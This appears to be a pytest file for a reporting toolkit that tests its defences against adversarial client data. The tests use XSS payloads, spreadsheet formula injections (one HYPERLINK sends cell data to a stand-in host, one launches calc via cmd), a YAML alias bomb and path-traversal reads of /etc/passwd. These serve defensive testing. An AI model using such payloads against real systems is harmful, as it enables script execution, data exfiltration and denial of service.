"""Adversarial input and faults (issue 16): client strings never run in a reader's browser,
and the content check says so when one would."""
import shutil

import numpy as np

import pandas as pd
import pytest
import yaml

from cxlib.report.content import check_report_content, find_active_content, page_text
from cxlib.report.pages import make_inert
from cxlib.report.runner import run_report

PAYLOADS = {
    "name": "Acme <script>alert('name')</script>",
    "segment": "<img src=x onerror=alert('segment')>",
    "attribute": "<svg onload=alert('attribute')>",
    "attribute_column": "<b onmouseover=alert('column')>zone</b>",
    "touchpoint": "General <svg/onload=alert('touchpoint')> enquiry",
    "department": "Customer service<iframe src=javascript:alert('dept')>",
    "reason": "[payment](javascript:alert('reason'))",
    "comment": "<a href=javascript:alert('comment')>click</a>",
}


@pytest.fixture(scope="module")
def injected(small_demo, tmp_path_factory):
    """The small demo with a script payload in every text column the data contract has,
    reported end to end."""
    root, _ = small_demo
    data = tmp_path_factory.mktemp("inject")
    shutil.copytree(root / "demo", data / "acme")
    raw = data / "acme" / "raw"
    crm = pd.read_csv(raw / "crm_customers.csv", sep=";", dtype=str, keep_default_na=False)
    crm["CustomerType"] = crm["CustomerType"].replace({"Business": PAYLOADS["segment"]})
    crm["Region"] = crm["Region"].replace({"West": PAYLOADS["attribute"]})          # not the reference level
    crm[PAYLOADS["attribute_column"]] = (["north", "north", "south"] * len(crm))[:len(crm)]   # kept as an attribute
    crm.to_csv(raw / "crm_customers.csv", sep=";", index=False)
    ev = pd.read_csv(raw / "contact_history.csv.gz", dtype=str, keep_default_na=False)
    ev["activity"] = ev["activity"].replace({"General enquiry": PAYLOADS["touchpoint"]})
    ev["dept"] = ev["dept"].replace({"Customer service": PAYLOADS["department"]})
    ev["reason_code"] = ev["reason_code"].replace({"payment": PAYLOADS["reason"]})
    ev.to_csv(raw / "contact_history.csv.gz", index=False)
    sv = pd.read_csv(raw / "survey_responses.csv", dtype=str, keep_default_na=False)
    sv.loc[sv["comment"] != "", "comment"] = PAYLOADS["comment"] + " " + sv.loc[sv["comment"] != "", "comment"]
    sv.to_csv(raw / "survey_responses.csv", index=False)
    cfg = yaml.safe_load((data / "acme" / "client.yml").read_text())
    cfg["name"] = PAYLOADS["name"]
    del cfg["tables"]["customers"][0]["values"]["segment"]
    cfg["analysis"]["churn"]["actionable"] = ["region", PAYLOADS["attribute_column"]]
    (data / "acme" / "client.yml").write_text(yaml.safe_dump(cfg, allow_unicode=True))
    reports = tmp_path_factory.mktemp("reports")
    run_report("acme", data_root=data, reports_root=reports, seed=3, extra_parameters={"n_boot": 20},
               progress=False)
    return reports / "acme"


def test_no_client_string_runs_on_any_page(injected):
    pages = sorted(injected.glob("*.html"))
    assert len(pages) >= 5
    for page in pages:
        assert find_active_content(page.read_text(encoding="utf-8")) == [], page.name
    assert not [p for p in check_report_content(injected) if "active content" in p]


def test_the_payloads_show_as_text_where_they_land(injected):
    text = {p.name: page_text(p.read_text(encoding="utf-8")) for p in injected.glob("*.html")}
    everything = " ".join(text.values())
    for key in ("name", "segment", "touchpoint", "department", "attribute", "attribute_column"):
        assert PAYLOADS[key] in everything, key                     # shown, not swallowed
    assert PAYLOADS["name"] in text["index.html"]


def test_the_content_check_catches_what_would_run():
    page = ("<p>fine</p><p>x<svg onload=alert(1)></svg></p><a href=' jAvAscript:alert(1)'>a</a>"
            "<script>alert(2)</script><iframe src=x></iframe><meta http-equiv='refresh' content='0;url=x'>")
    found = find_active_content(page)
    assert len(found) == 5
    assert find_active_content("<meta charset='utf-8'><p>a &lt;svg onload=x&gt;</p>") == []


def test_markdown_outputs_are_made_inert_outside_code_spans():
    assert make_inert("**Top** <svg onload=x> [a](javascript:b)") == r"**Top** &lt;svg onload=x&gt; \[a](javascript:b)"
    assert make_inert("`<kept>` and <gone>") == "`<kept>` and &lt;gone&gt;"


def test_dollar_signs_in_labels_draw_as_written():
    """Issue 16 (17): '$' in a client's name was read as matplotlib maths: 'Fee $100^$' raised
    and 'Refund $5 or $10' lost its dollars."""
    import matplotlib
    matplotlib.use("Agg")
    import matplotlib.pyplot as plt
    from cxlib.plotting import plot_channel_mix, set_house_style
    with matplotlib.rc_context():
        set_house_style()
        _draw_dollar_labels(plt, plot_channel_mix)


def _draw_dollar_labels(plt, plot_channel_mix):
    import io
    mix = pd.DataFrame({"events": [5, 3], "with_agent": [1, 0], "share": [0.6, 0.4], "agent_share": [0.2, 0.0]},
                       index=pd.Index(["Fee $100^$", "Refund $5 or $10"], name="channel"))
    fig, ax = plt.subplots()
    plot_channel_mix(mix, ax=ax)
    fig.savefig(io.BytesIO(), format="png")                     # raised ValueError before
    labels = [t.get_text() for t in ax.get_yticklabels() + ax.get_xticklabels()]
    assert any("Refund $5 or $10" in x for x in labels) or any("Refund $5 or $10" in t.get_text() for t in ax.texts)
    plt.close(fig)


def test_csv_outputs_are_safe_to_open_in_a_spreadsheet(tmp_path):
    """Issue 16 (4): quarantine.csv kept '=HYPERLINK(...)' and '@SUM(...)' cells as they were;
    opened in a spreadsheet they run. Every CSV the toolkit writes neutralises them, and the
    raw value is the cell without its leading quote."""
    from test_bad_inputs import EVENTS, Client, to_csv
    from cxlib.core.paths import resolve_client_paths
    from cxlib.ingest import write_ingest
    (tmp_path / "data" / "acme").mkdir(parents=True)
    client = Client(tmp_path / "data" / "acme")
    rows = [r[:] for r in EVENTS]
    bad = ['=HYPERLINK("http://x.example/?"&A1,"click")', "@SUM(1+1)", "+cmd|' /C calc'!A0", "\t=1+1"]
    for i, value in enumerate(bad, start=1):
        rows[i][1] = value                                   # an unparsable timestamp: quarantined, raw kept
    client.write("events.csv", to_csv(rows))
    result = client.ingest()
    paths = resolve_client_paths("acme", tmp_path / "data", tmp_path / "reports")
    write_ingest(result, paths)
    text = paths.quarantine_csv.read_text(encoding="utf-8")
    written = pd.read_csv(paths.quarantine_csv, dtype=str, keep_default_na=False)
    cells = [c for col in written.columns for c in written[col]]
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")], text[:500]
    values = set(written["value"])
    assert {"'" + v for v in bad} <= values                    # recoverable: strip the one leading quote
    assert "-" not in "".join(c[:1] for c in written["row"])  # plain numbers untouched


def test_a_yaml_alias_bomb_is_refused_fast_with_a_short_message(tmp_path):
    """Issue 16 (5): nested aliases inside a valid key ran 106 s to a MemoryError and printed
    the expanded input."""
    import time
    from cxlib.core.config import ConfigError, load_config
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 10) + "]" for i in range(1, 10)]
    bomb = "\n".join(["name: Bomb", "anchors:", *("  " + line for line in lines),
                      "analysis:", "  journeys:", "    boom: {start: [A], end: [B], touchpoints: *a9}"])
    path = tmp_path / "client.yml"
    path.write_text(bomb)
    t0 = time.perf_counter()
    with pytest.raises(ConfigError) as err:
        load_config(path)
    assert time.perf_counter() - t0 < 5
    assert "aliases expand" in str(err.value) and len(str(err.value)) < 400
    ok = tmp_path / "ok.yml"                                 # a modest anchor is still fine
    ok.write_text("name: Fine\ntables:\n  events:\n    - path: a.csv\n      columns: &cols {cust: customer_id}\n"
                  "    - path: b.csv\n      columns: *cols\n")
    assert load_config(ok).sources("events")[1].columns == {"cust": "customer_id"}


@pytest.mark.parametrize("where", ["/etc/passwd", "../../../../../../etc/passwd", "/dev/zero", "raw"])
def test_only_regular_files_inside_the_client_folder_or_an_opted_in_folder_are_read(tmp_path, where):
    """Issue 16 (3): /etc/passwd loaded as a customers table, ../ escaped the client folder and
    /dev/zero read until memory ran out."""
    from test_bad_inputs import Client
    from cxlib.ingest import IngestError
    folder = tmp_path / "acme"
    folder.mkdir()
    (folder / "raw").mkdir()
    client = Client(folder)
    client.source("customers", path=where)
    with pytest.raises(IngestError) as err:
        client.ingest()
    message = str(err.value)
    assert ("outside the client's folder" in message and "external_data" in message) or "not a regular file" in message
    assert "root:" not in message                               # nothing of the file is echoed


def test_an_opted_in_external_folder_is_read(tmp_path):
    from test_bad_inputs import Client
    shared = tmp_path / "shared"
    shared.mkdir()
    folder = tmp_path / "acme"
    folder.mkdir()
    client = Client(folder)
    (folder / "customers.csv").rename(shared / "customers.csv")
    client.source("customers", path="../shared/customers.csv")
    client.config["external_data"] = ["../shared"]
    assert len(client.ingest().tables["customers"]) == 4


def test_a_failure_page_shows_no_personal_data_and_is_scanned(tmp_path):
    """Issue 16 (2): a failed run wrote 'First rows: {...}' with names and e-mail addresses
    into index.html and the batch landing page, and no privacy scan ran on them."""
    import json
    from test_bad_inputs import Client
    from cxlib.report.batch import ClientRun, write_landing_page
    from cxlib.report.runner import ReportError
    folder = tmp_path / "data" / "acme"
    folder.mkdir(parents=True)
    client = Client(folder)
    client.write("customers.csv", "id,segment,since,mrr,contact_info\n"
                 "ACC100234,home,2024-01-15,30.5,anna.devries@example.com or +31 6 1234 5678\n")
    client.source("customers", columns={"id": "customer_id", "segmnt": "segment"})   # not in the file: fails
    (folder / "client.yml").write_text(yaml.safe_dump(client.config, allow_unicode=True))
    with pytest.raises(ReportError) as err:
        run_report("acme", data_root=tmp_path / "data", reports_root=tmp_path / "reports", progress=False)
    assert "anna.devries@example.com" in str(err.value)         # the analyst sees it all on the console
    run_dir = tmp_path / "reports" / "acme"
    index = (run_dir / "index.html").read_text(encoding="utf-8")
    assert "The report is incomplete" in index and "segmnt" in index          # still says what is wrong
    for personal in ("anna.devries", "1234 5678", "ACC100234"):
        assert personal not in index
    assert "01_ingest failed" in index
    privacy = json.loads((run_dir / "privacy.json").read_text())
    assert privacy["scanned"] >= 1
    landing = write_landing_page(tmp_path / "reports", [ClientRun("acme", "failed", 1.0, str(err.value),
                                                                  run_dir / "run.log", [])])
    assert "anna.devries" not in landing.read_text() and "ACC100234" not in landing.read_text()


def test_non_finite_numbers_and_implausible_durations_are_quarantined(tmp_path):
    """Issue 16 (7): 'inf', 'Infinity' and '1e309' loaded as +inf revenue; a handle time of
    'inf', '1e12' or '00:99:99' loaded."""
    from test_bad_inputs import CUSTOMERS, EVENTS, Client, to_csv
    client = Client(tmp_path)
    cust = [r[:] for r in CUSTOMERS]
    cust[1][3] = "1e309"
    client.write("customers.csv", to_csv(cust))
    ev = [EVENTS[0] + ["dur"]] + [r + ["00:05:00"] for r in EVENTS[1:]]
    ev[1][-1], ev[2][-1], ev[3][-1] = "inf", "1e12", "00:99:99"
    client.write("events.csv", to_csv(ev))
    client.source("events", columns={**client.config["tables"]["events"][0]["columns"], "dur": "handle_time_s"})
    r = client.ingest()
    q = r.quarantine
    cq = q[q["table"] == "customers"]
    assert cq["value"].tolist() == ["1e309"] and cq["reason"].tolist() == ["unparsable_number"]
    from cxlib.ingest import parse_numbers
    parsed = parse_numbers(pd.Series(["inf", "Infinity", "-inf", "1e309", "NaN", "5"]))
    assert parsed.isna().tolist() == [True] * 5 + [False]
    eq = q[q["table"] == "events"].set_index("value")["reason"].to_dict()
    assert eq == {"inf": "unparsable_number", "1e12": "implausible_value", "00:99:99": "unparsable_number"}
    assert r.tables["events"]["handle_time_s"].eq(300).all()
    assert np.isfinite(r.tables["customers"]["monthly_revenue"]).all()


def test_a_short_or_truncated_row_is_malformed_not_a_partial_record(tmp_path):
    """Issue 16 (6): 'C22,busi' with no newline loaded as a valid partial record."""
    from test_bad_inputs import CUSTOMERS, Client, to_csv
    client = Client(tmp_path)
    rows = [r[:4] for r in CUSTOMERS]
    text = to_csv(rows[:3]) + "C3,business\n" + to_csv(rows[4:]) + "C22,busi"      # short rows; no final newline
    client.write("customers.csv", text)
    r = client.ingest()
    q = r.quarantine[r.quarantine["table"] == "customers"]
    assert q["reason"].tolist() == ["malformed_row", "malformed_row"] and q["row"].tolist() == [4, 6]
    assert r.tables["customers"]["customer_id"].tolist() == ["C1", "C2", "C4"]


def test_line_numbers_are_physical_after_a_field_with_line_breaks(tmp_path):
    """Issue 16 (14): after a quoted field with embedded newlines every later row reported the
    wrong line number."""
    from test_bad_inputs import Client
    client = Client(tmp_path)
    client.write("surveys.csv", 'cust,when,level,about,metric,score,comment\n'
                 'C1,2025-02-04,journey,repair,nps,9,"line one\nline two\nline three"\n'
                 'C2,2025-03-25,journey,move,nps,99,too high\n'
                 'C3,2025-04-10,journey,repair,nps,8,\n')
    r = client.ingest()
    q = r.quarantine[r.quarantine["table"] == "surveys"]
    assert q["reason"].tolist() == ["score_out_of_range"] and q["row"].tolist() == [5]   # not line 3


def test_invisible_characters_and_unicode_forms_do_not_make_new_values(tmp_path):
    """Issue 16 (8): a NUL inside a field made a fake touchpoint, a zero-width space made an id
    that looks like 'C2' but is not, and 'Café' in NFC and NFD were two touchpoints."""
    import unicodedata
    from test_bad_inputs import EVENTS, Client, to_csv
    client = Client(tmp_path)
    rows = [r[:] for r in EVENTS]
    rows[1][3] = unicodedata.normalize("NFC", "Café visit")
    rows[2][3] = unicodedata.normalize("NFD", "Café visit")
    rows[3][0] = "C2\u200b"
    rows[4][3] = "Bill\x00 question"
    client.write("events.csv", to_csv(rows))
    r = client.ingest()
    ev = r.tables["events"]
    assert ev["touchpoint"].eq("Café visit").sum() == 2
    assert "unknown_customer" not in set(r.quarantine["reason"]) and (ev["customer_id"] == "C2").sum() == 2
    assert "Bill question" in set(ev["touchpoint"])
    note = [n for n in r.notes if n["check"] == "text_normalized"]
    assert note and note[0]["rows"] == 3


@pytest.mark.parametrize("header", ["cust,when,chan,what,dept,when", "cust,when,chan,what,dept,dept "])
def test_two_columns_with_one_name_fail_loudly_naming_both(tmp_path, header):
    """Issue 16 (11): duplicate column names: the first silently won, or every event was
    quarantined as missing_timestamp when the first 'when' was empty."""
    from test_bad_inputs import EVENTS, Client, to_csv
    from cxlib.ingest import IngestError
    client = Client(tmp_path)
    rows = [header.split(",")] + [r + [""] for r in EVENTS[1:]]
    client.write("events.csv", to_csv(rows))
    with pytest.raises(IngestError, match=r"events.csv: the header has two columns named '(when|dept)' "
                                          r"\(columns \d and 6\)"):
        client.ingest()


def test_two_columns_with_one_name_in_a_workbook_fail_loudly(tmp_path):
    from test_bad_inputs import CUSTOMERS, Client
    from cxlib.ingest import IngestError
    client = Client(tmp_path)
    frame = pd.DataFrame([r + ["x"] for r in CUSTOMERS[1:]], columns=CUSTOMERS[0] + ["mrr"])
    frame.to_excel(tmp_path / "customers.xlsx", index=False)
    client.source("customers", path="customers.xlsx")
    with pytest.raises(IngestError, match=r"two columns named 'mrr' \(columns 4 and 7\)"):
        client.ingest()


def test_an_hour_only_offset_is_parsed_not_a_crash():
    """Issue 16 (12): '2025-02-01 09:00:00+02' (PostgreSQL's text form) crashed ingest with
    'Mixed timezones detected' and no file, column or line."""
    from cxlib.ingest import parse_timestamps
    got = parse_timestamps(pd.Series(["2025-02-01 09:00:00+02", "2025-02-01 09:00:00-0330", "2025-02-01 09:00",
                                      "2025-02-01", "2025-02-01T09:00:00.5Z"]), "Europe/Amsterdam")
    assert [t.strftime("%H:%M") for t in got] == ["07:00", "12:30", "08:00", "23:00", "09:00"]


@pytest.mark.parametrize("fmt", ["%s", "%Y-%m-%d %Q", "dd-mm-yyyy", "%d-%m-%"])
def test_a_format_no_reader_can_parse_is_a_config_error(fmt):
    """Issue 16 (13): a bad formats directive passed check-config and crashed ingest with a
    pandas traceback."""
    from cxlib.core.config import ConfigError, parse_config
    with pytest.raises(ConfigError, match=r"formats.timestamp: .* is not a date format"):
        parse_config({"name": "x", "tables": {"events": [{"path": "e.csv", "formats": {"timestamp": fmt}}]}})
    parse_config({"name": "x", "tables": {"events": [{"path": "e.csv", "formats": {"timestamp": "%d/%m/%Y %H:%M"}}]}})


@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be"])
def test_utf16_without_a_byte_order_mark_names_the_encoding(tmp_path, encoding):
    """Issue 16 (15): UTF-16 without a BOM gave "column 'chan' not found; did you mean
    '\\x00c\\x00h...'"."""
    from test_bad_inputs import EVENTS, Client, to_csv
    from cxlib.ingest import IngestError
    client = Client(tmp_path)
    client.write("events.csv", to_csv(EVENTS).encode(encoding))
    with pytest.raises(IngestError, match=f"it is {encoding} without a byte-order mark. Set encoding: {encoding}"):
        client.ingest()
    client.source("events", encoding=encoding)
    assert len(client.ingest().tables["events"]) == len(EVENTS) - 1


def _fault_client(tmp_path):
    from test_bad_inputs import Client
    from cxlib.core.config import load_config
    from cxlib.core.paths import resolve_client_paths
    folder = tmp_path / "data" / "acme"
    folder.mkdir(parents=True)
    client = Client(folder)
    (folder / "client.yml").write_text(yaml.safe_dump(client.config, allow_unicode=True))
    paths = resolve_client_paths("acme", tmp_path / "data", tmp_path / "reports")
    paths.run_dir.mkdir(parents=True)
    return paths, load_config(paths.config)


class _FakePapermill:
    """Stands in for papermill: looks at the run folder mid-run, then fails the way asked."""

    def __init__(self, paths, fail):
        self.paths, self.fail, self.seen = paths, fail, {}

    def execute_notebook(self, *args, **kwargs):
        import json
        self.seen = {"provenance": json.loads(self.paths.provenance.read_text()),
                     "index": self.paths.index.read_text(encoding="utf-8"), "lock": self.paths.lock.exists()}
        raise self.fail


def test_an_interrupted_run_leaves_a_record_that_says_so(tmp_path):
    """Issue 16 (18): kill -9 during a run left no provenance.json and no index.html. Now the
    folder says 'running' from the start, and an interrupt is recorded as a failure."""
    import json
    from cxlib.report import runner
    from cxlib.report.notebooks import list_notebooks
    paths, config = _fault_client(tmp_path)
    pm = _FakePapermill(paths, KeyboardInterrupt())
    with pytest.raises(KeyboardInterrupt):
        with runner.hold_run_lock(paths, "acme"):
            runner._run(pm, RuntimeError, paths, config, {"client": "acme", "seed": 1}, list_notebooks(None),
                        "acme", lambda m: None)
    assert pm.seen["provenance"]["status"] == "running" and pm.seen["lock"]
    assert "has not finished" in pm.seen["index"] and "interrupted" in pm.seen["index"]
    after = json.loads(paths.provenance.read_text())
    assert after["status"] == "failed" and after["error"].startswith("KeyboardInterrupt")
    assert not paths.lock.exists()


def test_a_full_disk_keeps_the_first_error_and_a_whole_record(tmp_path, monkeypatch, capsys):
    """Issue 16 (19): a full disk left a 0-byte provenance.json and chained tracebacks that hid
    which notebook failed."""
    import errno
    import json
    from papermill.exceptions import PapermillExecutionError
    from cxlib.report import runner
    from cxlib.report.notebooks import list_notebooks
    paths, config = _fault_client(tmp_path)
    fail = PapermillExecutionError(3, 4, "x = 1/0", "ZeroDivisionError", "division by zero", [])
    pm = _FakePapermill(paths, fail)
    real = runner.write_provenance

    def full(path, record):
        if record.get("status") != "running":
            raise OSError(errno.ENOSPC, "No space left on device")
        real(path, record)
    monkeypatch.setattr(runner, "write_provenance", full)
    with pytest.raises(runner.ReportError, match=r"01_ingest failed in cell 3 \(In \[4\]\): ZeroDivisionError"):
        runner._run(pm, PapermillExecutionError, paths, config, {"client": "acme", "seed": 1},
                    list_notebooks(None), "acme", lambda m: None)
    assert json.loads(paths.provenance.read_text())["status"] == "running"   # whole, not 0 bytes
    assert "No space left on device" in capsys.readouterr().err
    assert not list(paths.run_dir.glob(".*.tmp"))


def test_two_runs_of_one_client_do_not_interleave(tmp_path):
    """Issue 16 (20): two runs of the same client at once had no lock."""
    import json
    import os
    import subprocess
    import sys
    from cxlib.report import runner
    paths, _ = _fault_client(tmp_path)
    with runner.hold_run_lock(paths, "acme"):
        with pytest.raises(runner.ReportError, match="another run of 'acme' is in progress"):
            with runner.hold_run_lock(paths, "acme"):
                pass
    assert not paths.lock.exists()
    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True)
    paths.lock.write_text(json.dumps({"pid": int(dead.stdout), "started_at": "earlier"}))   # a killed run's lock
    with runner.hold_run_lock(paths, "acme"):
        assert json.loads(paths.lock.read_text())["pid"] == os.getpid()


def test_mixed_day_first_and_month_first_dates_fail_loudly_with_examples(tmp_path):
    """Issue 16 (10): ambiguous dates were silently read one way while the column showed both
    conventions."""
    from test_bad_inputs import CUSTOMERS, Client, to_csv
    from cxlib.ingest import IngestError
    client = Client(tmp_path)
    rows = [r[:] for r in CUSTOMERS]
    rows[1][2], rows[2][2], rows[3][2], rows[4][2] = "25/12/2024", "12/25/2024", "03/04/2024", "13/01/2025"
    client.write("customers.csv", to_csv(rows))
    client.source("customers", formats={"signup_date": "%d/%m/%Y"})
    with pytest.raises(IngestError, match=r"'since' \(signup_date\) mixes day-first and month-first dates: 2 read "
                                          r"only as '%d/%m/%Y' .*line 3 '12/25/2024'.* and 1 could be either"):
        client.ingest()
    rows[2][2] = "26/12/2024"                                   # one convention throughout: loads
    client.write("customers.csv", to_csv(rows))
    assert len(client.ingest().tables["customers"]) == 4


def test_excel_error_cells_and_uncached_formulas_are_named_not_silently_null(tmp_path):
    """Issue 16 (9): Excel '#N/A' and formulas without a cached value loaded as null silently."""
    import openpyxl
    from test_bad_inputs import CUSTOMERS, Client
    client = Client(tmp_path)
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(CUSTOMERS[0][:4])
    for r in CUSTOMERS[1:]:
        ws.append(r[:4])
    ws["D3"] = "#N/A"                       # an error cell (openpyxl stores it as an error)
    ws["B4"] = '=IF(A4="C3","business","home")'   # a formula saved without its value
    wb.save(tmp_path / "customers.xlsx")
    client.source("customers", path="customers.xlsx")
    r = client.ingest()
    c = r.tables["customers"].set_index("customer_id")
    assert pd.isna(c.loc["C2", "monthly_revenue"]) and pd.isna(c.loc["C3", "segment"])
    note = [n for n in r.notes if n["check"] == "spreadsheet_cells"]
    assert note and note[0]["rows"] == 2
    assert "'mrr' line 3: error #N/A" in note[0]["message"] and "'segment' line 4: a formula without" in note[0]["message"]


def test_comments_that_match_no_theme_or_the_clients_own_themes_do_not_break_the_section():
    """Issue 16 (16): comments matching no built-in theme (non-English, or very few) crashed
    03_drivers with IndexError. Themes are optional; a client's own keywords apply."""
    from cxlib.drivers.comments import (comment_frame, describe_comment_themes, pick_excerpts,
                                        summarize_comment_themes)
    surveys = pd.DataFrame({"customer_id": ["a", "b", "c"], "level": "relationship",
                            "timestamp": pd.Timestamp("2025-01-01"), "metric": "nps", "score": [3.0, 9.0, 10.0],
                            "comment": ["De monteur kwam te laat", "Prima geholpen", "Snelle levering"]})
    commented = comment_frame(surveys)
    none = summarize_comment_themes(commented, group="group")
    assert none.empty and "none mentions a theme" in describe_comment_themes(none, len(commented))
    own = {"monteur": ["monteur"], "levering": ["levering"]}
    themes = summarize_comment_themes(commented, group="group", themes=own)
    assert set(themes.index) == {"monteur", "levering"} and themes.loc["monteur", "detractor comments"] == 1
    assert pick_excerpts(commented, "monteur", themes=own) == ["De monteur kwam te laat"]


def test_a_redacted_error_keeps_file_names_and_drops_paths_and_values():
    from cxlib.core.privacy import redact_error
    text = redact_error("01_ingest failed: IngestError: /home/ana/clients/acme/raw/export_2025.csv: column 'x' "
                        "not found. First rows: line 2 {'id': 'ACC100234', 'mail': 'a@b.nl'}")
    assert text.startswith("01_ingest failed: IngestError: export_2025.csv: column 'x' not found")
    assert "/home/ana" not in text and "ACC100234" not in text and "a@b.nl" not in text


def test_weekly_event_counts_match_pandas_resample():
    # the events-over-time figure counts weeks where the events are; it must draw what resample("W")
    # gives: Monday to Sunday labelled by the Sunday, a channel's empty weeks as zeros
    from cxlib.ingest.profile import count_events_per_week
    rng = np.random.default_rng(11)
    base = pd.Timestamp("2025-03-02 23:59:59", tz="UTC")     # a Sunday, a second before Monday
    offsets = np.concatenate([rng.integers(0, 90 * 86400, 500), [0, 1, 7 * 86400, 7 * 86400 + 1]])
    events = pd.DataFrame({"timestamp": (base + pd.to_timedelta(offsets, unit="s")).astype("datetime64[us, UTC]"),
                           "channel": rng.choice(["call", "web"], len(offsets))})
    events = pd.concat([events, pd.DataFrame({"timestamp": [base + pd.Timedelta(days=200)], "channel": ["call"]})
                        .astype(events.dtypes)], ignore_index=True)   # a long gap: zero weeks between
    expected = events.set_index("timestamp").groupby("channel").resample("W").size().rename("events").reset_index()
    pd.testing.assert_frame_equal(count_events_per_week(events), expected)
